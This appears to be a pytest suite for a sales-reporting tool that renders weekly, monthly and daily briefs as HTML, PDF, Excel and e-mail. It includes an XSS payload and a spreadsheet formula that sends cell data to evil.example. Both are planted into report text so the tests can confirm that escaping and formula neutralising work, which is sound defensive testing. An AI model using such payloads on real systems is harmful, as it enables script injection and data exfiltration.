"""Briefs end to end on a small demo warehouse (generated org → ingest → dbt build).

Figures are checked against the marts with queries written here, not read back from the
brief code's SQL. The data-quality marts are added by hand when dbt has not built them yet.
"""

from __future__ import annotations

import dataclasses
import email
import re
import socket
import subprocess
from datetime import date, datetime, timedelta
from email import policy
from pathlib import Path

import duckdb
import pytest
from dbt_support import build_generated_org

from salespulse.briefs import data as D
from salespulse.briefs.deliver import resend_failed
from salespulse.briefs.i18n import Locale
from salespulse.briefs.kinds import KINDS
from salespulse.briefs.publish import publish_period
from salespulse.briefs.render import BriefSettings, render, safe_cell
from salespulse.mail import SmtpConfig
from salespulse.marts import MartsSource

AS_OF = date(2026, 3, 20)  # a Friday
WEEK = date(2026, 3, 9)  # ISO week 2026-W11, closed on the as-of date
MONTH = date(2026, 2, 1)
INJECTION = '<script>alert("x")</script><img src=x onerror=alert(1)>'
FORMULA = '=HYPERLINK("http://evil.example/?d="&A1,"click")'
GENERATED = datetime(2026, 3, 20, 18, 0)

BRIEF_MODELS = (
    "kpi_rep_daily",
    "kpi_rep_weekly",
    "kpi_rep_monthly",
    "kpi_team_weekly",
    "kpi_team_monthly",
    "kpi_region_monthly",
    "kpi_company_monthly",
    "kpi_rep_quarterly",
    "kpi_team_quarterly",
    "kpi_region_quarterly",
    "kpi_company_quarterly",
    "fct_opportunity_history",
    "kpi_product_monthly",
    "fct_weekly_reports",
    "fct_action_items",
    "fct_orders",
    "fct_targets",
    "dim_customers",
    "dim_dates",
    "dq_submissions",
    "dq_anomalies",
)

pytestmark = pytest.mark.xdist_group("briefs")


def render_daily(data, t, generated_at):
    return render(KINDS["daily"], data, t, generated_at, BriefSettings())


def render_weekly(data, t, generated_at):
    return render(KINDS["weekly"], data, t, generated_at, BriefSettings())


def render_monthly(data, t, generated_at):
    return render(KINDS["monthly"], data, t, generated_at, BriefSettings())


def _add_quality_marts(con: duckdb.DuckDBPyConnection) -> None:
    """Stand-ins for marts.dq_submissions / dq_anomalies (their agreed columns) when not built yet."""
    tables = {r[0] for r in con.execute("select table_name from information_schema.tables").fetchall()}
    if "dq_submissions" not in tables:
        con.execute(
            """
            create table marts.dq_submissions as
            select
                'daily' as report_type, r.rep_id, r.team_id, r.period_start,
                r.period_start + interval 17 hour as due_at,
                d.submitted_at,
                case when d.rep_id is null then 'missing' when d.is_late then 'late' else 'on_time' end
                    as status,
                case when d.is_late then cast(date_diff('minute', r.period_start + interval 17 hour,
                    d.submitted_at) as bigint) end as minutes_late
            from marts.kpi_rep_daily as r
            left join marts.fct_daily_reports as d on d.rep_id = r.rep_id and d.report_date = r.period_start
            where r.daily_reports_expected > 0
            """
        )
    if "dq_anomalies" not in tables:
        con.execute(
            """
            create table marts.dq_anomalies (
                kind varchar, category varchar, severity varchar, rep_id varchar, team_id varchar,
                detail varchar, measured_value double, baseline_value double, start_date date, end_date date)
            """
        )
    # A planted streak and a failed check on the digest's day, whatever the real marts hold.
    rep_id, team_id = con.execute(
        "select rep_id, team_id from marts.kpi_rep_daily where period_start = ? and role = 'rep' "
        "order by rep_id limit 1",
        [AS_OF],
    ).fetchone()
    for kind, severity, value, detail, start in (
        ("zero_visit_streak", "warn", 3, "planted: 3 working days without visits", AS_OF - timedelta(days=2)),
        ("activity_spike", "error", 48, "planted: |z| = 6.3", AS_OF),
    ):
        con.execute(
            "insert into marts.dq_anomalies by name select ? as kind, 'data_quality' as category,"
            " ? as severity, ? as rep_id, ? as team_id, ? as detail, ? as measured_value,"
            " 5.0 as baseline_value, ? as start_date, ? as end_date",
            [kind, severity, rep_id, team_id, detail, value, start, AS_OF],
        )


def _plant_weekly_text(con: duckdb.DuckDBPyConnection) -> tuple[str, str]:
    """Make two below-target reps of the week report an HTML injection and a formula as obstacles."""
    rows = con.execute(
        """
        select k.rep_id, k.team_id from marts.kpi_rep_weekly as k
        join marts.fct_weekly_reports as w on w.rep_id = k.rep_id and w.week_start = k.period_start
        where k.period_start = ? and k.completion_rate < 1
        order by k.team_id, k.rep_id
        """,
        [WEEK],
    ).fetchall()
    by_team: dict[str, list[str]] = {}
    for rep_id, team_id in rows:
        by_team.setdefault(team_id, []).append(rep_id)
    team_id, reps = next((t, r) for t, r in by_team.items() if len(r) >= 2)
    con.execute(
        "update marts.fct_weekly_reports set obstacle_text = ? where rep_id = ? and week_start = ?",
        [INJECTION, reps[0], WEEK],
    )
    con.execute(
        "update marts.fct_weekly_reports set obstacle_text = ?, support_needed = ? where rep_id = ? "
        "and week_start = ?",
        [FORMULA, "@SUM(1+1)", reps[1], WEEK],
    )
    return team_id, reps[0]


@pytest.fixture(scope="session")
def warehouse(tmp_path_factory):
    tmp = tmp_path_factory.mktemp("briefs")
    # Only the models the briefs read (their tests belong to the dbt suite).
    path = build_generated_org(
        tmp,
        seed=5,
        as_of=AS_OF,
        reps=24,
        months=15,
        dbt_args=("run", "--select", *(f"+{model}" for model in BRIEF_MODELS)),
    )
    with duckdb.connect(str(path)) as con:
        _add_quality_marts(con)
        team_id, injected_rep = _plant_weekly_text(con)
    return {"path": path, "home": tmp / "home", "team": team_id, "injected_rep": injected_rep}


@pytest.fixture
def con(warehouse):
    with MartsSource.duckdb(warehouse["path"]).open() as connection:
        yield connection


def _team(con, team_id: str) -> D.Scope:
    return next(s for s in D.team_scopes(con, D.Period.week(WEEK)) if s.entity_id == team_id)


# ---------------------------------------------------------------------------------------------


@pytest.mark.parametrize("locale", ["zh-CN", "en"])
def test_briefs_render_in_both_locales(con, warehouse, locale):
    t = Locale(locale)
    team = _team(con, warehouse["team"])
    weekly = render_weekly(D.load_weekly(con, team, WEEK), t, GENERATED)
    monthly = render_monthly(D.load_monthly(con, D.company_scope(), MONTH), t, GENERATED)
    daily = render_daily(D.load_daily(con, team, AS_OF), t, GENERATED)
    if locale == "zh-CN":
        assert "团队周度业绩简报" in weekly.html and "2026年第11周" in weekly.html and "万" in weekly.html
        assert "月度业绩复盘" in monthly.html and "个人业绩跟踪表" in monthly.html
        assert "团队业绩汇总表" in monthly.html and "目标对比分析表" in monthly.html
        assert "每日异常清单" in daily.html and "2026年3月20日" in daily.html
    else:
        assert (
            "Team weekly brief" in weekly.html and "Week 11, 2026" in weekly.html and "CNY k" in weekly.html
        )
        assert "Monthly review pack" in monthly.html and "February 2026" in monthly.html
        assert "Daily exception digest" in daily.html and "20 Mar 2026" in daily.html
    for brief in (weekly, monthly, daily):
        assert f'lang="{t.html_lang}"' in brief.html
        # Self-contained: styles inline, charts as data URIs, nothing fetched.
        assert "<link" not in brief.html and 'src="http' not in brief.html
    assert monthly.html.count('src="data:image/png;base64,') == 5  # trend, 2 completion, 2 shares
    # Needs attention opens every brief, before the headline figures.
    for brief in (weekly, monthly, daily):
        assert brief.html.index(t("sec_attention")) < brief.html.index('class="cards"')


def test_weekly_figures_equal_the_marts(con, warehouse):
    t = Locale("zh-CN")
    team = _team(con, warehouse["team"])
    brief = render_weekly(D.load_weekly(con, team, WEEK), t, GENERATED)
    sales, target, completion, orders = con.execute(
        "select sales_amount, target_amount, completion_rate, orders_count from marts.kpi_team_weekly"
        " where team_id = ? and period_label = '2026-W11'",
        [team.entity_id],
    ).fetchone()
    figures = dict(brief.key_figures)
    assert figures["销售额"] == f"{sales / 10000:,.2f}万"
    assert figures["目标"] == f"{target / 10000:,.2f}万"
    assert figures["完成率"] == f"{completion * 100:.1f}%"
    assert figures["订单数"] == str(orders)
    # Every rep line of the HTML table carries the mart's sales.
    for rep_name, rep_sales in con.execute(
        "select rep_name, sales_amount from marts.kpi_rep_weekly"
        " where team_id = ? and period_label = '2026-W11'"
        " and role = 'rep'",
        [team.entity_id],
    ).fetchall():
        assert f'<td class="name">{rep_name}</td>' in brief.html
        assert f'<td class="num">{rep_sales / 10000:,.2f}</td>' in brief.html


def test_monthly_pack_figures_and_workbook_equal_the_marts(con, tmp_path):
    from openpyxl import load_workbook

    t = Locale("en")
    brief = render_monthly(D.load_monthly(con, D.company_scope(), MONTH), t, GENERATED)
    sales, target, yoy = con.execute(
        "select sales_amount, target_amount, yoy_sales_growth from marts.kpi_company_monthly"
        " where period_label = '2026-02'"
    ).fetchone()
    figures = dict(brief.key_figures)
    assert figures["Sales"] == f"CNY {sales / 1_000_000:,.2f}M"
    assert figures["Target"] == f"CNY {target / 1_000_000:,.2f}M"
    assert f"YoY {yoy * 100:+.1f}%" in brief.html

    path = tmp_path / "pack.xlsx"
    path.write_bytes(brief.xlsx())
    book = load_workbook(path)
    assert book.sheetnames[:3] == ["Personal tracking", "Team summary", "Target vs actual"]
    personal = book["Personal tracking"]
    assert personal.freeze_panes == "B4"
    assert "Monthly review pack · Company · February 2026" in personal["A1"].value
    header = [c.value for c in personal[3]]
    sales_col = header.index("Actual (CNY)")
    rate_col = header.index("Completion")
    by_rep = {row[0].value: row for row in personal.iter_rows(min_row=4)}
    expected = con.execute(
        "select rep_name, sales_amount, completion_rate from marts.kpi_rep_monthly"
        " where period_label = '2026-02'"
        " and role = 'rep'"
    ).fetchall()
    assert expected
    for rep_name, rep_sales, rate in expected:
        row = by_rep[rep_name]
        assert row[sales_col].value == pytest.approx(float(rep_sales))
        assert row[sales_col].number_format == "#,##0"
        if rate is not None:
            assert row[rate_col].value == pytest.approx(rate)
            assert row[rate_col].number_format == "0.0%"
    teams = book["Team summary"]
    assert teams.freeze_panes == "B4"
    total = [c.value for c in list(teams.iter_rows())[-1]]
    assert total[0] == "Total" and total[4] == pytest.approx(float(sales))


def test_coaching_is_the_quality_marts_finding(con):
    """需辅导 in the monthly pack: the reps below the coaching threshold this (closed) month and
    the one before, worked out here from the KPI mart, are the reps the pack marks; the mark comes
    from dq_anomalies (the rule's one implementation), so without its rows nobody is marked."""
    from salespulse.briefs import analysis
    from salespulse.config import Thresholds

    threshold = Thresholds.coaching_completion
    previous = D.add_months(MONTH, -1)
    expected = {
        rep_id
        for (rep_id,) in con.execute(
            "select now.rep_id from marts.kpi_rep_monthly as now"
            " join marts.kpi_rep_monthly as before on before.rep_id = now.rep_id"
            " where now.period_start = ? and before.period_start = ? and now.is_closed"
            " and before.is_closed and now.completion_rate < ? and before.completion_rate < ?",
            [MONTH, previous, threshold, threshold],
        ).fetchall()
    }
    data = D.load_monthly(con, D.company_scope(), MONTH)
    shown = {r["rep_id"] for r in data.reps}
    lows = analysis.low_performers(data, BriefSettings().coaching_completion)
    marked = {f.rep["rep_id"] for f in lows if f.coaching is not None}
    assert expected & shown, "the demo month should have reps who need coaching"
    assert marked == expected & shown
    assert all(f.coaching == pytest.approx(threshold) for f in lows if f.coaching is not None)
    t = Locale("en")
    html = render_monthly(data, t, GENERATED).html
    assert t("coaching", pct=t.percent(threshold, 0)) in html

    unmarked = dataclasses.replace(data, needs_coaching={})
    assert all(f.coaching is None for f in analysis.low_performers(unmarked, threshold))
    assert t("coaching", pct=t.percent(threshold, 0)) not in render_monthly(unmarked, t, GENERATED).html


def test_zh_workbook_holds_wan_yuan(con, warehouse, tmp_path):
    from openpyxl import load_workbook

    team = _team(con, warehouse["team"])
    brief = render_monthly(D.load_monthly(con, team, MONTH), Locale("zh-CN"), GENERATED)
    path = tmp_path / "team.xlsx"
    path.write_bytes(brief.xlsx())
    sheet = load_workbook(path)["个人业绩跟踪表"]
    header = [c.value for c in sheet[3]]
    column = header.index("实际完成（万元）")
    sales = dict(
        con.execute(
            "select rep_name, sales_amount from marts.kpi_rep_monthly"
            " where team_id = ? and period_label = '2026-02'",
            [team.entity_id],
        ).fetchall()
    )
    for row in sheet.iter_rows(min_row=4):
        if row[0].value in sales:
            assert row[column].value * 10000 == pytest.approx(float(sales[row[0].value]))
            assert row[column].number_format == "#,##0.00"


def test_obstacle_injection_is_escaped(con, warehouse):
    team = _team(con, warehouse["team"])
    brief = render_weekly(D.load_weekly(con, team, WEEK), Locale("zh-CN"), GENERATED)
    assert "<script>" not in brief.html and "<img src=x" not in brief.html
    assert "&lt;script&gt;alert(&#34;x&#34;)&lt;/script&gt;" in brief.html


def test_formula_looking_obstacle_is_inert_in_xlsx(con, warehouse, tmp_path):
    from openpyxl import load_workbook

    team = _team(con, warehouse["team"])
    brief = render_weekly(D.load_weekly(con, team, WEEK), Locale("en"), GENERATED)
    path = tmp_path / "weekly.xlsx"
    path.write_bytes(brief.xlsx())
    cells = [c for ws in load_workbook(path).worksheets for row in ws.iter_rows() for c in row]
    assert not [c for c in cells if c.data_type == "f"], "no formula anywhere"
    planted = [c for c in cells if isinstance(c.value, str) and "HYPERLINK" in c.value]
    assert planted and all(c.value == "'" + FORMULA and c.data_type == "s" for c in planted), [
        c.value for c in planted
    ]
    assert any(c.value == "'@SUM(1+1)" for c in cells)
    assert safe_cell("-1") == "'-1" and safe_cell(-1) == -1 and safe_cell("plain") == "plain"


def test_pdf_has_chinese_text_and_a_visible_page(con, warehouse, tmp_path):
    from PIL import Image

    team = _team(con, warehouse["team"])
    brief = render_monthly(D.load_monthly(con, team, MONTH), Locale("zh-CN"), GENERATED)
    pdf = tmp_path / "pack.pdf"
    pdf.write_bytes(brief.pdf())
    text = subprocess.run(
        ["pdftotext", "-l", "1", str(pdf), "-"], capture_output=True, text=True, check=True
    ).stdout
    assert "月度业绩复盘" in text and team.name in text and "需关注" in text
    subprocess.run(
        ["pdftoppm", "-png", "-r", "50", "-f", "1", "-l", "1", str(pdf), str(tmp_path / "page")], check=True
    )
    page = Image.open(next(tmp_path.glob("page*.png"))).convert("L")
    dark = sum(1 for value in page.getdata() if value < 200)
    assert dark > 0.03 * page.width * page.height, "the first page is (nearly) blank"


def test_daily_digest_lists_exceptions_and_marks_provisional(con, warehouse):
    rep_team = con.execute(
        "select team_id from marts.dq_anomalies where detail like 'planted%' limit 1"
    ).fetchone()[0]
    team = next(s for s in D.team_scopes(con, D.Period.day(AS_OF)) if s.entity_id == rep_team)
    data = D.load_daily(con, team, AS_OF)
    brief = render_daily(data, Locale("en"), GENERATED)
    assert "planted: 3 working days without visits" in brief.html  # streak section
    assert "planted: |z| = 6.3" in brief.html  # anomaly, and a failed check
    assert data.completeness.failed_checks and brief.provisional
    late_missing = con.execute(
        "select count(*) from marts.dq_submissions"
        " where team_id = ? and period_start = ? and report_type = 'daily'"
        " and status in ('late', 'missing')",
        [team.entity_id, AS_OF],
    ).fetchone()[0]
    assert len(data.late_or_missing) == late_missing


def test_brief_without_quality_marts_says_completeness_is_unavailable(warehouse, tmp_path):
    copy = tmp_path / "w.duckdb"
    with duckdb.connect(str(copy)) as target:
        target.execute(f"attach '{warehouse['path']}' as src (read_only)")
        target.execute("create schema marts")
        for (name,) in target.execute(
            "select table_name from information_schema.tables"
            " where table_catalog = 'src' and table_schema = 'marts'"
            " and table_name not like 'dq_%'"
        ).fetchall():
            target.execute(f"create table marts.{name} as select * from src.marts.{name}")
    with MartsSource.duckdb(copy).open() as connection:
        team = _team(connection, warehouse["team"])
        brief = render_weekly(D.load_weekly(connection, team, WEEK), Locale("en"), GENERATED)
    assert "Submission and data-quality data are unavailable" in brief.html


def test_holiday_has_no_digest_and_a_makeup_saturday_has_one(warehouse, tmp_path):
    common = {
        "marts": MartsSource.duckdb(warehouse["path"]),
        "briefs_dir": tmp_path / "briefs",
        "outbox_dir": tmp_path / "outbox",
        "locale": "zh-CN",
        "as_of": AS_OF,
        "smtp": None,
    }
    holiday = publish_period(kind="daily", start=date(2026, 1, 1), **common)
    assert holiday.published == [] and "holiday" in holiday.skipped_reason
    makeup = publish_period(kind="daily", start=date(2026, 2, 28), only={warehouse["team"]}, **common)
    assert [p.brief.scope.entity_id for p in makeup.published] == [warehouse["team"]]
    [item] = makeup.published
    assert item.paths["pdf"].is_file() and item.paths["pdf"].name.endswith("_2026-02-28_每日异常.zh-CN.pdf")


# --------------------------------------------------------------------------------------------- e-mail


class _Collector:
    def __init__(self):
        self.envelopes = []

    async def handle_DATA(self, server, session, envelope):
        self.envelopes.append(envelope)
        return "250 OK"


@pytest.fixture
def smtp_server():
    from aiosmtpd.controller import Controller

    handler = _Collector()
    controller = Controller(handler, hostname="127.0.0.1", port=_free_port())
    controller.start()
    try:
        yield handler, controller.port
    finally:
        controller.stop()


def _free_port() -> int:
    with socket.socket() as sock:
        sock.bind(("127.0.0.1", 0))
        return sock.getsockname()[1]


def test_briefs_are_mailed_to_the_roster(warehouse, tmp_path, smtp_server):
    handler, port = smtp_server
    smtp = SmtpConfig(
        host="127.0.0.1", port=port, sender="briefs@salespulse.test", retries=1, backoff_seconds=0
    )

    def publish(only: set[str], resend: bool = False):
        return publish_period(
            kind="monthly",
            start=MONTH,
            marts=MartsSource.duckdb(warehouse["path"]),
            briefs_dir=tmp_path / "briefs",
            outbox_dir=tmp_path / "outbox",
            locale="zh-CN",
            as_of=AS_OF,
            smtp=smtp,
            resend=resend,
            only=only,
        )

    result = publish({warehouse["team"], "company"})
    with duckdb.connect(str(warehouse["path"]), read_only=True) as con:
        supervisors = {
            r[0]
            for r in con.execute(
                "select email from marts.dim_reps where is_current and role = 'supervisor' and team_id = ?",
                [warehouse["team"]],
            ).fetchall()
        }
        managers = {
            r[0]
            for r in con.execute(
                "select email from marts.dim_reps where is_current and role = 'manager'"
            ).fetchall()
        }
    assert supervisors
    received = {tuple(e.rcpt_tos): e for e in handler.envelopes}
    assert {to for (to,) in received} == supervisors | {
        d.recipient for p in result.published if p.brief.scope.kind == "company" for d in p.deliveries
    }
    company = next(p for p in result.published if p.brief.scope.kind == "company")
    assert company.recipients and {r.email for r in company.recipients} <= managers
    for envelope in handler.envelopes:
        assert envelope.mail_from == "briefs@salespulse.test"
        msg = email.message_from_bytes(envelope.content, policy=policy.default)
        assert msg["To"].addresses[0].addr_spec == envelope.rcpt_tos[0]
        assert "月度业绩复盘" in msg["Subject"]
        files = {part.get_filename() for part in msg.iter_attachments()}
        assert len(files) == 2 and {Path(f).suffix for f in files} == {".pdf", ".xlsx"}
        html = msg.get_body(("html",)).get_content()
        assert "月度业绩复盘" in html and "cid:" in html and "data:image" not in html
    assert all(d.status == "sent" for p in result.published for d in p.deliveries)
    assert len(list((tmp_path / "outbox").rglob("*.eml"))) == len(handler.envelopes)

    # Re-rendering the period (a re-run, a demo run twice) mails nobody twice; `resend` does.
    sent_before = len(handler.envelopes)
    again = publish({warehouse["team"], "company"})
    assert len(handler.envelopes) == sent_before
    assert {d.status for p in again.published for d in p.deliveries} == {"already_sent"}
    publish({warehouse["team"]}, resend=True)
    assert len(handler.envelopes) > sent_before


def test_smtp_failure_is_retried_reported_and_kept(warehouse, tmp_path, smtp_server):
    down = SmtpConfig(host="127.0.0.1", port=_free_port(), retries=2, backoff_seconds=0, timeout_seconds=2)
    outbox = tmp_path / "outbox"
    result = publish_period(
        kind="weekly",
        start=WEEK,
        marts=MartsSource.duckdb(warehouse["path"]),
        briefs_dir=tmp_path / "briefs",
        outbox_dir=outbox,
        locale="en",
        as_of=AS_OF,
        smtp=down,
        only={warehouse["team"]},
    )
    [item] = result.published
    assert item.deliveries and all(d.status == "failed" and d.attempts == 3 for d in item.deliveries)
    assert all(d.error for d in item.deliveries)
    for d in item.deliveries:
        assert Path(d.eml_path).is_file()
        assert (outbox / "failed" / item.brief_id / Path(d.eml_path).name).is_file()
    log = (outbox / "delivery-log.jsonl").read_text(encoding="utf-8")
    assert '"status": "failed"' in log
    # The brief itself is there, and the failed mails go out once the server is back.
    assert item.paths["pdf"].is_file()
    handler, port = smtp_server
    resent = resend_failed(outbox, SmtpConfig(host="127.0.0.1", port=port, retries=0))
    assert [d.status for d in resent] == ["sent"] * len(item.deliveries)
    assert not list((outbox / "failed").rglob("*.eml"))
    assert len(handler.envelopes) == len(item.deliveries)


# --------------------------------------------------------------------------------------------- Dagster


@pytest.mark.xdist_group("briefs")
def test_weekly_asset_materializes_a_past_week(warehouse, tmp_path, monkeypatch):
    import dagster as dg

    from pipelines.definitions import build_resources
    from pipelines.defs.briefs.assets import build_brief_assets
    from salespulse.config import get_settings

    home = tmp_path / "home"
    monkeypatch.setenv("SALESPULSE_HOME", str(home))
    monkeypatch.setenv("SALESPULSE_WAREHOUSE", str(warehouse["path"]))
    monkeypatch.setenv("SALESPULSE_LOCALE", "en")
    monkeypatch.delenv("SALESPULSE_SMTP_HOST", raising=False)
    get_settings.cache_clear()
    try:
        settings = get_settings()
        result = dg.materialize(
            [build_brief_assets(settings)["weekly"]],
            partition_key=WEEK.isoformat(),
            resources=build_resources(settings),
        )
    finally:
        get_settings.cache_clear()
    assert result.success
    [materialization] = result.asset_materializations_for_node("briefs__team_weekly_brief")
    metadata = materialization.metadata
    assert metadata["period"].value == "2026-W11"
    assert metadata["briefs"].value >= 1
    assert "Sales" in metadata["preview"].value and "data:image/png;base64," in metadata["preview"].value
    folder = home / "briefs" / "weekly" / "2026-W11"
    assert list(folder.glob("*_2026-W11_weekly-brief.en.html"))
    assert list(folder.glob("*_2026-W11_weekly-brief.en.xlsx"))
    assert list((home / "outbox" / "weekly" / "2026-W11").rglob("*.eml"))


# --------------------------------------------------------------------------------------------- issue 14


def _pdf_words(pdf_path: Path) -> list[list[dict]]:
    import pdfplumber

    with pdfplumber.open(str(pdf_path)) as pdf:
        return [
            [{**w, "page_width": page.width} for w in page.extract_words(keep_blank_chars=False)]
            for page in pdf.pages
        ]


@pytest.mark.parametrize("scope_kind", ["company", "team"])
def test_english_layout_is_designed_not_translated(con, warehouse, tmp_path, scope_kind):
    """Both locales of a monthly pack: the same page count ± 1, headline figures as separate
    words, nothing beyond the page's right edge (no table runs off the page)."""
    scope = D.company_scope() if scope_kind == "company" else _team(con, warehouse["team"])
    data = D.load_monthly(con, scope, MONTH)
    pages = {}
    for code in ("zh-CN", "en"):
        t = Locale(code)
        brief = render_monthly(data, t, GENERATED)
        pdf = tmp_path / f"{code}.pdf"
        pdf.write_bytes(brief.pdf())
        words = _pdf_words(pdf)
        pages[code] = len(words)
        for page in words:
            for w in page:
                assert w["x1"] <= w["page_width"] - 20, f"{code}: {w['text']!r} runs off the page"
        first = {w["text"] for w in words[0]}
        sales, target = (value for label, value in brief.key_figures[:2])
        for figure in (sales, target):
            # The figure is one word (or "CNY" + one word), never glued to its neighbour.
            parts = figure.split()
            assert parts[-1] in first, f"{code}: {figure!r} is not a separate word on page 1"
        text = subprocess.run(["pdftotext", "-layout", str(pdf), "-"], capture_output=True, text=True).stdout
        assert t("sec_attention") in text.split(t("sec_kpis"))[0] or t("sec_attention") in text[:2000]
    assert abs(pages["zh-CN"] - pages["en"]) <= 1, pages


def test_mail_body_relies_on_no_style_block_and_has_a_text_part(con, warehouse):
    import re

    team = _team(con, warehouse["team"])
    for code in ("zh-CN", "en"):
        brief = render_weekly(D.load_weekly(con, team, WEEK), Locale(code), GENERATED)
        html = brief.email_html()
        assert "<style" not in html.lower()
        assert "var(--" not in html and ":root" not in html
        assert not re.search(r"display\s*:\s*(flex|grid|inline-flex)", html)
        assert 'style="' in html and "<table" in html
        assert brief.attention[0]["text"] in html if brief.attention else True
        assert 'src="data:image/png;base64,' in html  # swapped for cid: by build_message
        text = brief.text()
        assert brief.title in text and all(value in text for _, value in brief.key_figures)


def test_attention_ranks_the_weekly_brief_against_an_independent_reading(con, warehouse):
    """The first "behind pace" item names the rep whose month lags the target × time elapsed by
    the most money, with that amount, computed here straight from the marts."""
    team = _team(con, warehouse["team"])
    data = D.load_weekly(con, team, WEEK)
    brief = render_weekly(data, Locale("zh-CN"), GENERATED)
    assert 1 <= len(brief.attention) <= BriefSettings().attention_items
    month = D.Period.month(WEEK + timedelta(days=4))
    rows = con.execute(
        "select rep_id, rep_name, target_amount * time_progress - sales_amount as shortfall"
        " from marts.kpi_rep_monthly where team_id = ? and period_start = ? and role = 'rep'"
        " and target_amount is not null and completion_rate < time_progress order by shortfall desc",
        [team.entity_id, month.start],
    ).fetchall()
    if rows:
        rep_id, name, shortfall = rows[0]
        first = brief.attention[0]["text"]
        assert f"{name} ({rep_id})" in first
        assert f"{float(shortfall) / 10000:,.2f}万" in first


def test_forecast_and_leaderboard_against_independent_arithmetic():
    from salespulse.briefs.forecast import Projection, leaderboard, months_between, new_hire, project

    p = project(
        {
            "sales_amount": 300_000,
            "target_amount": 1_000_000,
            "workdays_elapsed": 6,
            "workdays_in_period": 20,
        },
        weighted_pipeline=250_000,
    )
    assert p.run_rate == pytest.approx(1_000_000)  # 50,000 a day × 20
    assert p.pipeline_weighted == pytest.approx(550_000)
    assert p.gap == pytest.approx(0)
    assert p.needed_per_workday == pytest.approx(700_000 / 14)
    assert (
        Projection(0, None, 0, 20).run_rate is None and Projection(5, 10, 20, 20).needed_per_workday is None
    )
    assert Projection(20, 10, 5, 20).needed_per_workday == 0
    assert months_between(date(2026, 8, 15), date(2026, 11, 14)) == 2
    assert months_between(date(2026, 8, 15), date(2026, 11, 15)) == 3
    assert new_hire(date(2026, 9, 1), date(2026, 11, 30), 3) and not new_hire(
        date(2026, 8, 1), date(2026, 11, 30), 3
    )
    reps = [
        {
            "rep_id": "A",
            "completion_rate": 0.9,
            "sales_amount": 90,
            "target_amount": 100,
            "hire_date": date(2020, 1, 1),
        },
        {
            "rep_id": "B",
            "completion_rate": 1.2,
            "sales_amount": 60,
            "target_amount": 50,
            "hire_date": date(2019, 1, 1),
        },
        {
            "rep_id": "C",
            "completion_rate": 0.9,
            "sales_amount": 90,
            "target_amount": 100,
            "hire_date": date(2021, 1, 1),
        },
        {
            "rep_id": "N",
            "completion_rate": 3.0,
            "sales_amount": 30,
            "target_amount": 10,
            "hire_date": date(2026, 10, 1),
        },
    ]
    ranked, newcomers = leaderboard(reps, date(2026, 11, 30), 3)
    assert [(r.rep["rep_id"], r.rank) for r in ranked] == [("B", 1), ("A", 2), ("C", 2)]
    assert [r.rep["rep_id"] for r in newcomers] == ["N"] and newcomers[0].rank is None


def test_attention_round_robin_and_cap():
    from salespulse.briefs import attention as A

    reps = [
        {
            "rep_id": f"R{i}",
            "rep_name": f"n{i}",
            "target_amount": 100,
            "completion_rate": 0.1 * i,
            "time_progress": 0.8,
            "sales_amount": 10 * i,
            "overdue_receivables": 0,
        }
        for i in range(1, 6)
    ]
    behind = A.behind_pace(reps, closed=False)
    assert [i.person for i in behind] == ["R1", "R2", "R3", "R4", "R5"]  # most money behind first
    unknown = A.unknown_rep_orders(
        [{"owner_rep_id": "R999", "amount": 1200}, {"owner_rep_id": "R999", "amount": 300}]
    )
    assert unknown[0].values["amount"].value == 1500 and unknown[0].values["count"].value == 2
    ranked = A.rank(
        {"behind_pace": behind, "unknown_rep_orders": unknown}, ("behind_pace", "unknown_rep_orders"), 4
    )
    assert [i.kind for i in ranked] == ["behind_pace", "unknown_rep_orders", "behind_pace", "behind_pace"]


def test_workbook_reads_like_a_hand_made_template(con, warehouse, tmp_path):
    from openpyxl import load_workbook

    team = _team(con, warehouse["team"])
    brief = render_monthly(D.load_monthly(con, D.company_scope(), MONTH), Locale("zh-CN"), GENERATED)
    path = tmp_path / "pack.xlsx"
    path.write_bytes(brief.xlsx())
    book = load_workbook(path)
    team_ids = {r[0] for r in con.execute("select team_id from marts.dim_teams").fetchall()}
    for ws in book.worksheets:
        assert "全公司" in ws["A1"].value and "2026年2月" in ws["A1"].value
        assert ws.freeze_panes == "B4"
        # Fit to one page wide (Excel's default width of 1 is left implicit), any number tall.
        assert ws.page_setup.orientation == "landscape" and ws.page_setup.fitToWidth in (None, 1)
        assert ws.page_setup.fitToHeight == 0
        assert ws.sheet_properties.pageSetUpPr.fitToPage
        headers = [c.value for c in ws[3]]
        assert all(headers), f"{ws.title}: a column without a header"
        for row in ws.iter_rows(min_row=4):
            for c in row:
                assert c.value not in team_ids, f"{ws.title}: team id {c.value} instead of its name"
                if c.number_format == "#,##0" and c.value is not None:
                    assert float(c.value).is_integer()
    personal = book["个人业绩跟踪表"]
    assert personal.conditional_formatting, "completion is coloured red/green"
    assert team.name in {c.value for c in personal["B"]}


def test_daily_partitions_are_working_days_only():
    from pipelines.defs.briefs.assets import brief_partitions
    from salespulse.config import load_settings

    keys = set(brief_partitions("day", load_settings()).get_partition_keys())
    assert "2026-02-28" in keys  # 调休 Saturday
    assert "2026-10-01" not in keys and "2026-03-07" not in keys  # National Day, a Saturday
    assert "2026-03-20" in keys


def test_each_reader_gets_their_language_in_one_run(warehouse, tmp_path, smtp_server):
    handler, port = smtp_server
    with duckdb.connect(str(warehouse["path"]), read_only=True) as con:
        english = con.execute(
            "select email, region from marts.dim_reps where is_current and locale = 'en'"
        ).fetchall()
    assert english, "the generated roster has an English reader"
    en_email, region = english[0]
    result = publish_period(
        kind="monthly",
        start=MONTH,
        marts=MartsSource.duckdb(warehouse["path"]),
        briefs_dir=tmp_path / "briefs",
        outbox_dir=tmp_path / "outbox",
        locale="zh-CN",
        as_of=AS_OF,
        smtp=SmtpConfig(host="127.0.0.1", port=port, retries=0),
        only={region, "company", warehouse["team"]},
    )
    by_to = {
        e.rcpt_tos[0]: email.message_from_bytes(e.content, policy=policy.default) for e in handler.envelopes
    }
    assert en_email in by_to and len(by_to) >= 2
    for to, msg in by_to.items():
        files = sorted(part.get_filename() for part in msg.iter_attachments())
        html = msg.get_body(("html",)).get_content()
        assert msg.get_body(("plain",)) is not None
        if to == en_email:
            assert "Monthly review pack" in msg["Subject"] and all(".en." in f for f in files)
            assert "Needs attention" in html
        else:
            assert "月度业绩复盘" in msg["Subject"] and all(".zh-CN." in f for f in files)
            assert "需关注" in html
        assert all("_2026-02_" in f for f in files)
        assert "<style" not in html.lower() and "cid:" in html
    region_item = next(p for p in result.published if p.brief.scope.kind == "region")
    assert set(region_item.locale_paths) == {"zh-CN", "en"}
    assert region_item.locale_paths["en"]["pdf"].name == f"{region}_2026-02_monthly-review.en.pdf"
